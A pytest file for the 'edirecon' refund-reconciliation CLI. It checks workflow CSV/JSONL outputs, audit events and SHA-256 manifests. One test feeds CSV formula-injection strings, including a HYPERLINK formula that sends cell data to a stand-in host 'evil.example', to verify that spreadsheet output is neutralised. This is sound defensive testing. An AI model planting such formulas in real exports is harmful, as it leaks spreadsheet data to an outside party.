"""The team's work in the outputs (issue 15, step 7): `run` and `report` write workflow.csv and
workflow.jsonl (one row per refund of the workflow, its last audit event, what was sent and
acknowledged), and `run` writes the manifest.json that `watch` writes (engine/record/manifest.py).

Figures come from the sample READMEs (as in test_refund_actions.py): with the report tests'
configuration, the COB refund of RFM2605001 (Medicaid 77099, 27.00) is auto-approved, the
patient credit of RFM2606001 (15.00) held, the duplicate of RFM2602001 (Blue River 87726, 155.50)
pending.  Refund ids are read from the run's refund_requests.csv.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from conftest import FIXTURES, SAMPLE_EDI
from sqlalchemy import create_engine, select
from typer.testing import CliRunner

from edirecon.cli import app
from edirecon.engine.record.csvout import FORMULA_START, TEXT, TYPES
from edirecon.engine.record.manifest import write_manifest
from edirecon.engine.record.workflow import WORKFLOW_COLUMNS
from edirecon.engine.store import schema as t

CONFIG = FIXTURES / "reports" / "config.toml"
INPUTS = [SAMPLE_EDI / "secondary-overpaid", SAMPLE_EDI / "patient-copay-overpaid", SAMPLE_EDI / "duplicate-payment"]
UTC_TIME = re.compile(r"^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$")


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=[pytest.mark.postgres, pytest.mark.slow])])
def db(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """A fresh store: SQLite in tmp_path, or a throwaway PostgreSQL database."""
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path / 'edirecon.db'}"
    return str(request.getfixturevalue("pg_url"))


def cli(*args: Any) -> Any:
    result = CliRunner().invoke(app, [str(a) for a in args])
    assert result.exit_code == 0, f"edirecon {' '.join(map(str, args))}: exit {result.exit_code}\n{result.output}"
    return result


def run(db: str, out: Path) -> dict[str, str]:
    """`edirecon run` over the three scenarios into ``out``: account number -> refund id."""
    cli("run", *INPUTS, "--db", db, "--out", out, "--as-of", "2026-11-27", "--workers", "1", "--config", CONFIG)
    with open(out / "refund_requests.csv", newline="", encoding="utf-8") as fh:
        return {r["patient_control_number"]: r["refund_id"] for r in csv.DictReader(fh)}


def refund(db: str, *args: Any) -> Any:
    return cli("refund", *args, "--db", db, "--as-of", "2026-11-27", "--config", CONFIG)


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        reader = csv.DictReader(fh)
        assert reader.fieldnames == WORKFLOW_COLUMNS
        return list(reader)


def jsonl_rows(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def last_events(db: str) -> dict[str, tuple[str, str, datetime, str]]:
    """refund id -> (action, user, time, note) of its last audit event, read from the store."""
    engine = create_engine(db.replace("postgresql://", "postgresql+psycopg://"))
    try:
        with engine.connect() as conn:
            events = conn.execute(select(t.refund_events).order_by(t.refund_events.c.id)).all()
    finally:
        engine.dispose()
    return {e.refund_id: (e.action, e.user_name, e.at, e.note) for e in events}


def test_a_second_run_and_report_show_what_the_team_did(db: str, tmp_path: Path) -> None:
    """After approve, assign and mark-sent, the next `run` and `report` write one row per refund,
    by refund id: its status, assignee, last action with whom and when (the audit event's UTC
    time), and for the refund sent its method, reference, day and amount.  The JSON Lines hold the
    same values (null where nothing is set), and `report` writes the same bytes as `run`."""
    ids = run(db, tmp_path / "first")
    cob, patient, dup = ids["RFM2605001"], ids["RFM2606001"], ids["RFM2602001"]
    refund(db, "approve", dup, "--user", "alice", "--note", "checked with Blue River")
    refund(db, "assign", patient, "--to", "dana", "--user", "carol")
    refund(db, "mark-sent", cob, "--user", "bob", "--method", "eft", "--reference", "EFT-9001", "--date", "2026-11-26")

    again = run(db, tmp_path / "second")
    assert again == ids
    cli("report", "--db", db, "--out", tmp_path / "report", "--as-of", "2026-11-27", "--config", CONFIG)
    events = last_events(db)
    rows = csv_rows(tmp_path / "second" / "workflow.csv")
    assert [r["refund_id"] for r in rows] == sorted(ids.values())
    by_id = {r["refund_id"]: r for r in rows}
    for rid, row in by_id.items():
        action, user, at, note = events[rid]
        assert UTC_TIME.match(row["last_action_at"]) and row["last_action_at"] == at.strftime("%Y-%m-%dT%H:%M:%SZ")
        assert (row["last_action"], row["last_action_by"], row["last_note"]) == (action, user, note)
    pick = ["workflow_status", "reason", "payee_type", "payer_id", "amount", "assigned_to", "last_action", "last_action_by"]
    assert {rid: [by_id[rid][c] for c in pick] for rid in by_id} == {
        dup: ["approved", "DUPLICATE_PAYMENT", "payer", "87726", "155.50", "", "approve", "alice"],
        patient: ["held", "PATIENT_OVERPAYMENT", "patient", "", "15.00", "dana", "assign", "carol"],
        cob: ["sent", "COB_OVERPAYMENT", "payer", "77099", "27.00", "", "mark-sent", "bob"],
    }
    assert "checked with Blue River" in by_id[dup]["last_note"]
    sent = ["method", "reference", "sent_on", "sent_amount", "acknowledged_by", "acknowledged_on"]
    assert [by_id[cob][c] for c in sent] == ["eft", "EFT-9001", "2026-11-26", "27.00", "", ""]
    assert [by_id[dup][c] for c in sent] == ["", "", "", "", "", ""]

    jsonl = jsonl_rows(tmp_path / "second" / "workflow.jsonl")
    assert [list(r) for r in jsonl] == [WORKFLOW_COLUMNS] * 3
    assert [{k: "" if v is None else v for k, v in r.items()} for r in jsonl] == rows
    (sent_row,) = [r for r in jsonl if r["refund_id"] == cob]
    assert (sent_row["sent_on"], sent_row["sent_amount"], sent_row["acknowledged_on"], sent_row["cashed_on"]) == ("2026-11-26", "27.00", None, None)
    for name in ("workflow.csv", "workflow.jsonl"):
        assert (tmp_path / "report" / name).read_bytes() == (tmp_path / "second" / name).read_bytes(), name
    report_doc = json.loads((tmp_path / "report" / "report.json").read_text())
    assert {"workflow.csv", "workflow.jsonl"} <= set(report_doc["files"])

    refund(db, "acknowledge", cob, "--user", "carol", "--reference", "LTR-7", "--date", "2026-11-27")
    run(db, tmp_path / "third")
    (row,) = [r for r in csv_rows(tmp_path / "third" / "workflow.csv") if r["refund_id"] == cob]
    assert [row[c] for c in ("workflow_status", "last_action", "acknowledged_by", "acknowledged_on", "acknowledged_amount")] == [
        "acknowledged",
        "acknowledge",
        "confirmation LTR-7",
        "2026-11-27",
        "27.00",
    ]


def test_hostile_assignee_note_user_and_reference_are_neutralised_in_the_csv(tmp_path: Path) -> None:
    """An assignee, a note, a user and a reference typed as formulas get their leading ' in
    workflow.csv (docs/outputs.md: spreadsheet safety), the note's line break stays inside its
    quoted cell; workflow.jsonl keeps the raw text."""
    db = f"sqlite:///{tmp_path / 'edirecon.db'}"
    ids = run(db, tmp_path / "first")
    cob, dup = ids["RFM2605001"], ids["RFM2602001"]
    hostile_note = '=HYPERLINK("http://evil.example/?"&A1,"open")\n+second line'
    refund(db, "assign", dup, "--to", "=1+2", "--user", "@admin")
    refund(db, "note", dup, "--note", hostile_note, "--user", "-carol")
    refund(db, "mark-sent", cob, "--user", "bob", "--method", "check", "--reference", "+5001", "--date", "2026-11-26")
    run(db, tmp_path / "second")

    text = (tmp_path / "second" / "workflow.csv").read_text(encoding="utf-8")
    by_id = {r["refund_id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert [by_id[dup][c] for c in ("assigned_to", "last_action", "last_action_by", "last_note")] == ["'=1+2", "note", "'-carol", "'" + hostile_note]
    assert by_id[cob]["reference"] == "'+5001"
    assert by_id[cob]["sent_amount"] == "27.00"  # an amount is not text: written as it is
    text_columns = [c for c in WORKFLOW_COLUMNS if TYPES.get(c, TEXT) == TEXT]
    assert {"assigned_to", "last_action_by", "last_note", "reference"} <= set(text_columns) and "sent_amount" not in text_columns
    for row in by_id.values():
        assert not [c for c in text_columns if row[c][:1] in FORMULA_START], row
    raw = {r["refund_id"]: r for r in jsonl_rows(tmp_path / "second" / "workflow.jsonl")}
    assert (raw[dup]["assigned_to"], raw[dup]["last_action_by"], raw[dup]["last_note"], raw[cob]["reference"]) == ("=1+2", "-carol", hostile_note, "+5001")


def test_run_writes_a_manifest_of_every_output_with_its_sha256(tmp_path: Path) -> None:
    """manifest.json of `run` lists every other file of --out with its SHA-256, size and row
    count, is written last, and has the form of watch's (format version, as-of, time, batch)."""
    db = f"sqlite:///{tmp_path / 'edirecon.db'}"
    ids = run(db, tmp_path / "first")
    refund(db, "hold", ids["RFM2602001"], "--user", "alice", "--note", "asking the payer")
    out = tmp_path / "second"
    run(db, out)
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert list(manifest) == ["format_version", "as_of", "generated_at", "batch", "files"]
    assert (manifest["format_version"], manifest["as_of"]) == (1, "2026-11-27")
    assert UTC_TIME.match(manifest["generated_at"]) and re.fullmatch(r"\d{8}T\d{6}Z-\d+", manifest["batch"])
    listed = {f["path"]: f for f in manifest["files"]}
    assert sorted([*listed, "manifest.json"]) == sorted(p.name for p in out.iterdir())
    for name, entry in listed.items():
        data = (out / name).read_bytes()
        assert (entry["sha256"], entry["bytes"]) == (hashlib.sha256(data).hexdigest(), len(data)), name
        lines = data.decode("utf-8").splitlines()
        if name.endswith(".csv") and name != "workflow.csv":  # workflow.csv's notes may hold line breaks
            assert entry["rows"] == len(lines) - 1, name
        elif name.endswith(".jsonl"):
            assert entry["rows"] == len(lines), name
        else:
            assert "rows" not in entry or name == "workflow.csv", name
    assert listed["workflow.csv"]["rows"] == listed["workflow.jsonl"]["rows"] == len(ids) == 3
    newest = max((out / p).stat().st_mtime_ns for p in listed)
    assert (out / "manifest.json").stat().st_mtime_ns >= newest
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert "manifest.json" not in json.dumps(summary)


def test_one_manifest_writer_for_run_and_watch(tmp_path: Path) -> None:
    """The manifest's bytes: one JSON object, indented by one space, keys in this order, the
    time in UTC with a Z, a newline at the end (docs/dropfolders.md), written atomically."""
    (tmp_path / "a.csv").write_bytes(b"x\n1\n")
    files = [{"path": "a.csv", "sha256": hashlib.sha256(b"x\n1\n").hexdigest(), "bytes": 4, "rows": 1}]
    doc = write_manifest(tmp_path, files, date(2026, 11, 27), "20261204T101500Z-42", datetime(2026, 12, 4, 10, 15, 0, 123456))
    assert (tmp_path / "manifest.json").read_bytes() == (
        '{\n "format_version": 1,\n "as_of": "2026-11-27",\n "generated_at": "2026-12-04T10:15:00Z",\n "batch": "20261204T101500Z-42",\n'
        ' "files": [\n  {\n   "path": "a.csv",\n   "sha256": "' + files[0]["sha256"] + '",\n   "bytes": 4,\n   "rows": 1\n  }\n ]\n}\n'
    ).encode()
    assert doc["files"] == files
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.csv", "manifest.json"]
